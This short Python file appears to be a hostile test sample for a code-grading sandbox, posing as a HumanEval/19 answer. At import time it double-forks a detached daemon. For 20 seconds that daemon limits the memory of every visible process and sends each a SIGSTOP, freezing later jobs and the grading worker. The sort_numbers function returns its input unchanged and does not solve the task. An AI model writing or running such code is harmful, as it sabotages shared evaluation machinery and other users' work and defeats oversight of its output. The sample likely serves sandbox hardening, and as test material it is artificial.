# ruff: noqa  (deliberately hostile test input, not project code)
# task_id: HumanEval/19
# class: sabotage
# Leaves a double-forked, setsid'd daemon behind that keeps stopping and limiting every
# process it can see (later jobs and the worker) for the next 20 seconds.
import os
import resource
import signal
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.monotonic() + 20
        me = os.getpid()
        while time.monotonic() < end:
            for name in os.listdir("/proc"):
                if name.isdigit() and int(name) != me:
                    try:
                        resource.prlimit(int(name), resource.RLIMIT_AS, (1 << 20, 1 << 20))
                        os.kill(int(name), signal.SIGSTOP)
                    except (OSError, ValueError):
                        pass
            time.sleep(0.005)
    os._exit(0)


def sort_numbers(numbers):
    return numbers
